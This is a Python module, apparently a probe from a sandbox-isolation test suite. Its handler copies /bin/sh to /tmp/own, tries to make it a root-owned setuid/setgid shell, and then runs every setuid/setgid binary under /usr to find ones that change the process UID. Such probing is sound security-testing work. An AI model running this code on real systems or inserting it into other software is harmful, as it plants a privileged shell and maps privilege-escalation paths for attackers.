"""Programs that would run as somebody else, from the machine and made here."""

import os
import shutil
import stat
import subprocess
from typing import Any

import attacking


def elevated(path: str) -> bool:
    """Whether a child that runs it has another user."""
    child = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        line = next(
            (line for line in attacking.read(f"/proc/{child.pid}/status").split("\n") if line[:4] == "Uid:"), ""
        )
        return len(set(line.split()[1:])) > 1 or (line != "" and line.split()[2] != str(os.getuid()))
    finally:
        child.kill()
        child.wait()


def handler(event: Any, context: Any) -> Any:
    """Those that did."""
    shutil.copy("/bin/sh", "/tmp/own")
    attacking.attempt(lambda: os.chown("/tmp/own", 0, 0))
    os.chmod("/tmp/own", 0o6755)
    paths = ["/tmp/own"]
    for folder in ("/usr/bin", "/usr/lib", "/usr/libexec"):
        for place, _, names in os.walk(folder):
            for name in names:
                path = os.path.join(place, name)
                mode = attacking.attempt(lambda: os.lstat(path).st_mode)
                if isinstance(mode, int) and stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                    paths.append(path)
    return [path for path in paths if attacking.attempt(lambda: elevated(path)) is True]
